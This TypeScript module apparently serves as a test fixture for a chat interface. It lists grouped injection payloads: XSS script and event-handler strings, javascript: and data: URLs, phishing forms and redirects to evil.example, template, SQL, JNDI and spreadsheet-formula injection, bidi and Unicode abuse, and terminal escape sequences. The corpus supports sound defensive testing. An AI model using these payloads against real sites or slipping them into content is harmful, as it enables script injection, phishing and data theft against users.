/* What people write who want to see whether a chat shows it or does it. */

export interface Attack {
  kind: string;
  text: string;
}

const HTML = [
  '<b>bold</b>',
  '<h1>huge</h1>',
  '<!-- <img src=x> -->',
  '<![CDATA[<img src=x onerror=pwned=1>]]>',
  '</div></div></main><h1>outside</h1>',
  '</textarea><script>pwned=1</script>',
  '</title><script>pwned=1</script>',
  '</style><script>pwned=1</script>',
  '</script><script>pwned=1</script>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=password><button>Log in again</button></form>',
  '<input autofocus>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>*{display:none!important}</style>',
  '<div style="position:fixed;inset:0;z-index:2147483647;background:red">covered</div>',
  '<table background="https://evil.example/x.png"><tr><td>',
  '<template><script>pwned=1</script></template>',
  '<slot></slot><noscript><p title="</noscript><img src=x onerror=pwned=1>">',
  '<dialog open>Your session has ended</dialog>',
  '<a href="https://evil.example/" target=_top>here</a>',
  '&lt;img src=x onerror=pwned=1&gt;',
  '&#60;script&#62;pwned=1&#60;/script&#62;',
  '&amp;&quot;&#x27;&nbsp;',
  '<\u0131mg src=x onerror=pwned=1>',
  '\uFF1Cscript\uFF1Epwned=1\uFF1C/script\uFF1E',
];

const SCRIPTS = [
  '<script>pwned=1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script/random>pwned=1</script>',
  '<scr<script>ipt>pwned=1</scr</script>ipt>',
  '<<script>pwned=1//<</script>',
  '<script\n>pwned=1</script\n>',
  '<script type=module>pwned=1</script>',
  '<script>import("data:text/javascript,pwned=1")</script>',
  '<svg><script>pwned=1</script></svg>',
  '<svg><script href="data:text/javascript,pwned=1"/></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>',
  '<x-frame><script>pwned=1</script></x-frame>',
  "';pwned=1;//",
  '";pwned=1;//',
  '`;pwned=1;//',
  '\\";pwned=1;//',
  '*/pwned=1/*',
  '\u2028pwned=1\u2029',
];

const HANDLERS = [
  '<img src=x onerror=pwned=1>',
  '<img src=x:x onerror="globalThis.pwned=1">',
  '<img/src/onerror=pwned=1>',
  '<img src=x onerror\n=\npwned=1>',
  '<img src="x` `<script>pwned=1</script>"` `>',
  '<svg onload=pwned=1>',
  '<svg/onload=pwned=1//',
  '<svg><animate onbegin=pwned=1 attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=pwned=1>',
  '<svg><a xlink:href="javascript:pwned=1"><text x=20 y=20>click</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>pwned=1</script></svg>#x">',
  '<body onload=pwned=1>',
  '<input onfocus=pwned=1 autofocus>',
  '<select onfocus=pwned=1 autofocus>',
  '<textarea onfocus=pwned=1 autofocus>',
  '<details open ontoggle=pwned=1><summary>x',
  '<video><source onerror=pwned=1></video>',
  '<video src=x onloadstart=pwned=1>',
  '<audio src=x onerror=pwned=1>',
  '<marquee onstart=pwned=1>x</marquee>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<iframe src="javascript:parent.pwned=1"></iframe>',
  '<object data="javascript:pwned=1"></object>',
  '<embed src="data:text/html,<script>pwned=1</script>">',
  '<div onpointerover=pwned=1>over here</div>',
  '<style onload=pwned=1></style>',
  '<link rel=prefetch href=x onerror=pwned=1>',
  '<xss contenteditable onbeforeinput=pwned=1>type</xss>',
  '<xss style="animation:x" onanimationend=pwned=1>',
  '<button popovertarget=x>x</button><xss popover id=x onbeforetoggle=pwned=1>',
  '" onmouseover=pwned=1 x="',
  "' onfocus=pwned=1 autofocus '",
  '"><img src=x onerror=pwned=1>',
];

const LINKS = [
  'javascript:pwned=1',
  'JaVaScRiPt:pwned=1',
  'java\tscript:pwned=1',
  'java\nscript:pwned=1',
  '\u0001javascript:pwned=1',
  'javascript://example.com/%0Apwned=1',
  'javascript&colon;pwned=1',
  'vbscript:msgbox(1)',
  'data:text/html,<script>pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'ftp://evil.example/',
  'view-source:https://evil.example/',
  'ms-word:ofe|u|https://evil.example/x.docx',
  '//evil.example/path',
  'https://evil.example/"onmouseover="pwned=1',
  "https://evil.example/'onmouseover='pwned=1",
  'https://evil.example/<script>pwned=1</script>',
  'https://shop.example@evil.example/',
  'https://user:secret@evil.example/',
  'https://shop.example%2F@evil.example/',
  'https://evil.example/\u202Egpj.exe',
  'https://sh\u043Ep.example/',
  'https://evil.example\u3002com/',
  'http://[::1]:8080/x?y=<z>#"q"',
  'https://evil.example/)))))',
  'mailto:a@b.example?subject=<script>&bcc=all@b.example',
  '[click](javascript:pwned=1)',
  '![x](https://evil.example/x.png)',
  '<javascript:pwned=1>',
  'https:javascript:pwned=1',
  'https://\u0000evil.example'.replace('\u0000', '%00'),
];

const DIRECTION = [
  '\u202Egnp.exe',
  'photo\u202Egpj.exe',
  '\u2066\u2066\u2066\u2066never closed',
  '\u2067to the right\u2069 and back',
  '\u202B\u202D\u202E\u202A\u202C twisted',
  '\u200F\u200E\u061Cmarks',
  'abc \u05D0\u05D1\u05D2 123 \u0627\u0644\u0639\u0631\u0628\u064A\u0629 (x) [y]',
  `${'\u202E'.repeat(500)}deep`,
  `${'\u2066'.repeat(126)}isolates`,
];

const UNICODE = [
  `Z${'\u0301'.repeat(4000 - 1)}`,
  `${'Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309'.repeat(60)}algo`,
  `${'\u0E49'.repeat(200)}thai`,
  `\u200B${'\u200B'.repeat(500)}zero width`,
  `in\u200Bvis\u200Cib\u200Dle\u2060\uFEFF`,
  `${'\u00AD'.repeat(300)}soft hyphens`,
  '\u{E0001}\u{E0041}\u{E0042} tags',
  '\uFFFE\uFFFF\u{1FFFE} noncharacters',
  `${'\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}'.repeat(50)} families`,
  `\u{1F3F4}${'\u{E0067}\u{E0062}'.repeat(30)}\u{E007F} flags`,
  'W'.repeat(4000),
  '\u{FDFD}'.repeat(100),
  '\u{12031}\u{A9C5}\u{FDFA} wide ones',
  `https://shop.example/${'a'.repeat(1900)}`,
  `m${'\n'.repeat(200)}m`,
  `${'\t'.repeat(200)}tabs`,
  `${' '.repeat(500)}spaces`,
  'line\u2028separator\u2029paragraph\u0085next\u000Bvertical',
  'i\u0307\u0130\u0131\u017F\u212A case',
  '\u1E9E\uFB03\u2126 folded',
  '\u0001\u0007\u0008\u000C\u001B\u007F\u0080\u009F control',
];

const TEMPLATES = [
  '{{constructor.constructor("pwned=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to stand there
  '${pwned=1}',
  '#{pwned=1}',
  '<%= pwned=1 %>',
  '{{=it.x}}{{#each}}{% raw %}',
  '{name} {position} {count} {seconds}',
  '{visitor.name} {{visitor}} {agent}',
  '%s %d %n %x %p',
  "$& $1 $` $' $$",
  '__proto__',
  'constructor',
  '{"__proto__":{"pwned":1}}',
  '{"type":"closed","seq":1}',
  'a|b\\c/../../etc/passwd',
  "Robert'); DROP TABLE messages;--",
  'jndi:ldap://evil.example/x',
];

const TABLES = [
  '=HYPERLINK("https://evil.example/","click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  '"quoted","cells"\n"second","row"',
  ';=1+1;',
];

const TERMINALS = [
  '\u001B[31mred\u001B[0m',
  '\u001B[2J\u001B[Hcleared',
  '\u001B]0;title\u0007',
  '\u001B]8;;https://evil.example/\u001B\\link\u001B]8;;\u001B\\',
  '\u009B31mred',
  '\r\nlevel=error event=forged',
  'at=2026-01-01T00:00:00Z level=error event=forged',
  '\u001BP$q"p\u001B\\',
];

const GROUPS = {
  html: HTML,
  script: SCRIPTS,
  handler: HANDLERS,
  link: LINKS,
  direction: DIRECTION,
  unicode: UNICODE,
  template: TEMPLATES,
  table: TABLES,
  terminal: TERMINALS,
};

export const ATTACKS: Attack[] = Object.entries(GROUPS).flatMap(([kind, texts]) =>
  texts.map((text) => ({ kind, text })),
);

/* For fields that take one line of at most `most` code points. */
export function shortAttacks(most: number): Attack[] {
  return ATTACKS.filter(({ text }) => [...text].length <= most && !/[\n\r]/.test(text));
}
